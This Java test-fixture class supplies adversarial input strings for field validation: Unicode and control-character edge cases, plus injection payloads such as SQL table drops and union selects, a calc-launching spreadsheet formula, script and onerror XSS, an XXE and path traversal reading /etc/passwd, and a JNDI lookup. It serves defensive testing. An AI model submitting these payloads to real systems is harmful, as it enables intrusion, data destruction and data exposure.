package app.pathfinder.core.input;

import java.util.List;
import java.util.stream.Stream;

/** The texts that every field of the program is tried with, whatever its limit. */
final class NaughtyTexts {
    /** Outside the Basic Multilingual Plane: two chars, four bytes, one character. */
    static final String GRINNING = "\ud83d\ude00";

    private static final int MEGABYTE = 1 << 20;

    private NaughtyTexts() {}

    /** All of them. */
    static List<NaughtyText> all() {
        return Stream.of(
                        writing(),
                        invisible(),
                        controls(),
                        unstorable(),
                        blanks(),
                        sql(),
                        wildcards(),
                        formulas(),
                        markup(),
                        formats(),
                        longOnes())
                .flatMap(List::stream)
                .toList();
    }

    private static List<NaughtyText> writing() {
        return List.of(
                of("emoji", "smile " + GRINNING),
                of("family of ZWJ sequence", "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66"),
                of("flags", "\ud83c\uddf3\ud83c\uddf4\ud83c\udde9\ud83c\uddea"),
                of("skin tones", "\ud83d\udc4b\ud83c\udffb\ud83d\udc4b\ud83c\udfff"),
                of("flag of tag characters", "\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc65\udb40\udc7f"),
                of("Arabic and Hebrew", "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd"),
                of("Chinese beyond the plane", "\ud840\udc00\ud869\udea5\u4e2d\u6587"),
                of("Thai without blanks", "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35\u0e04\u0e23\u0e31\u0e1a"),
                of("decomposed, not to be composed", "e\u0301 A\u030a n\u0303"),
                of("composed, not to be decomposed", "\u00e9 \u00c5 \u00f1"),
                of("combining tower", "Z" + "\u0336\u0351\u0489\u0321".repeat(12)),
                of("begins with a combining mark", "\u0301abc"),
                of("dotted capital I", "\u0130stanbul \u0131\u015f\u0131k"),
                of("sharp s and final sigma", "Stra\u00dfe \u1e9e \u03a3\u03c3\u03c2"),
                of("ligatures and full width", "\ufb01\ufb02 \uff21\uff22\uff23 \u2460"));
    }

    private static List<NaughtyText> invisible() {
        return List.of(
                of("right-to-left override", "abc\u202egnp.exe\u202c"),
                of("isolates left open", "\u2066\u2067\u2068abcd"),
                of("marks of direction", "\u200eabc\u200f\u061cdef"),
                of("zero-width characters", "a\u200bb\u200cc\u200dd\u2060e"),
                of("only a zero-width space", "\u200b"),
                of("byte-order mark first", "\ufefftext"),
                of("byte-order mark reversed", "te\ufffext"),
                of("non-characters", "a\uffffb\ufdd0c\udbff\udfff"),
                of("replacement character", "ab\ufffdcd"),
                of("private use", "ab\ue000\uf8ffcd"),
                of("soft hyphen", "soft\u00adhyphen"),
                of("variation selectors", "\u2764\ufe0f\u2764\ufe0e"),
                of("interlinear annotation", "\ufff9ab\ufffacd\ufffb"));
    }

    private static List<NaughtyText> controls() {
        return List.of(
                of("bell, backspace and escape", "a\u0007b\b\u001b[31mred"),
                of("end of text and of file", "ab\u0003\u0004\u001acd"),
                of("delete and C1 controls", "ab\u007f\u0080\u0085\u009fcd"),
                of("every C0 control but NUL", everyControl()),
                of("CRLF", "first\r\nsecond"),
                of("lone CR", "first\rsecond"),
                of("lone LF", "first\nsecond"),
                of("vertical tab and form feed", "first\u000bsecond\fthird"),
                of("line and paragraph separator", "first\u2028second\u2029third"));
    }

    private static String everyControl() {
        var text = new StringBuilder("ab");
        for (char control = 1; control < ' '; control++) {
            text.append(control);
        }
        return text.append("cd").toString();
    }

    private static List<NaughtyText> unstorable() {
        return List.of(
                of("NUL inside", "before\u0000after"),
                of("only NUL", "\u0000"),
                of("NUL at the end", "text\u0000"),
                of("lone high surrogate", "text\ud83dtext"),
                of("lone low surrogate", "text\ude00text"),
                of("high surrogate at the end", "text\ud83d"),
                of("surrogates in the wrong order", "text\ude00\ud83dtext"));
    }

    private static List<NaughtyText> blanks() {
        return List.of(
                of("empty", ""),
                of("one blank", " "),
                of("all sorts of blanks", " \t\r\n\u2003\u3000\u2028"),
                of("no-break space alone", "\u00a0"),
                of("blanks at both ends", "  \t inner  blanks \r\n"),
                of("wide blanks at both ends", "\u3000\u2003text\u2003\u3000"),
                of("no-break spaces at both ends", "\u00a0text\u00a0"),
                of("separators at both ends", "\u001ctext\u001f"));
    }

    private static List<NaughtyText> sql() {
        return List.of(
                of("quote", "O'Brien"),
                of("only a quote", "'"),
                of("drop table", "'; drop table pf_users cascade; --"),
                of("drop table by name", "x'); drop table <messages>; --"),
                of("always true", "' or '1'='1"),
                of("union", "' union select password_key from pf_users --"),
                of("block comment", "/* comment */ text /*"),
                of("line comment", "text -- comment"),
                of("named parameter", ":name :title ::text :word0"),
                of("name of a table", "<messages> <experiences_detailed> <boolean>"),
                of("question marks", "what? ?? ?| ?&"),
                of("numbered parameter", "$1 $2 ${schema} $$body$$"),
                of("JDBC escape", "{fn now()} {d '2020-01-01'} {call f()}"),
                of("backslashes", "\\ \\\\ \\' \\0 \\u0000 \\x00"),
                of("ends with a backslash", "text\\"),
                of("double quotes", "\"text\" \"\"twice\"\""),
                of("escape string", "E'\\047' U&'\\0041'"),
                of("sleep", "1; select pg_sleep(60)"));
    }

    private static List<NaughtyText> wildcards() {
        return List.of(
                of("percent", "%"),
                of("underscore", "_"),
                of("exclamation mark", "!"),
                of("escaped percent", "!%"),
                of("wildcards between words", "100% _x_ wow!"),
                of("regular expression", "^.*(a+)+$ [a-z]"));
    }

    private static List<NaughtyText> formulas() {
        return List.of(
                of("formula =", "=1+1"),
                of("formula of a command", "=cmd|' /C calc'!A0"),
                of("formula +", "+1+1"),
                of("formula -", "-1+1"),
                of("formula @", "@SUM(1;1)"),
                of("formula after a tab", "\t=1+1"),
                of("formula after CR", "\r=1+1"),
                of("full-width formula", "\uff1d1\uff0b1"),
                of("full-width + - @", "\uff0b1\uff0d1\uff201"),
                of("hyperlink formula", "=HYPERLINK(\"http://x.test\";\"click\")"),
                of("cells of CSV", "a,b;c\td\"e\"\r\n\"f"),
                of("fields of CEF", "CEF:0|a=b|c\\|d\\=e cs1=forged"));
    }

    private static List<NaughtyText> markup() {
        return List.of(
                of("script", "<script>alert(1)</script>"),
                of("image with a handler", "\"><img src=x onerror=alert(1)>"),
                of("XML with an entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
                of("CDATA and entities", "]]> &amp; &#0; &lt;b&gt;"),
                of("path", "../../../etc/passwd"),
                of("JSON", "{\"a\": [null, \"\\u0000\"]}"));
    }

    private static List<NaughtyText> formats() {
        return List.of(
                of("format string", "%s %n %d %x %999999999s"),
                of("message format", "{0} {1,number} '{2}' {"),
                of("JNDI", "${jndi:ldap://x.test/a}"),
                of("property", "${user.home} #{1+1} {{7*7}}"),
                of("null", "null"),
                of("NULL", "NULL"),
                of("undefined and NaN", "undefined NaN Infinity"),
                of("number", "1e400"));
    }

    private static List<NaughtyText> longOnes() {
        return List.of(
                of("very long word", "Donaudampfschiff".repeat(40)),
                of("many words", "word ".repeat(300)),
                of("1 MB", "abcdefgh".repeat(MEGABYTE / 8)),
                of("1 MB of emoji", GRINNING.repeat(MEGABYTE / 4)),
                of("1 MB of blanks", " ".repeat(MEGABYTE)),
                of("1 MB with a NUL at the end", "y".repeat(MEGABYTE) + '\u0000'));
    }

    private static NaughtyText of(String name, String text) {
        return new NaughtyText(name, text);
    }
}
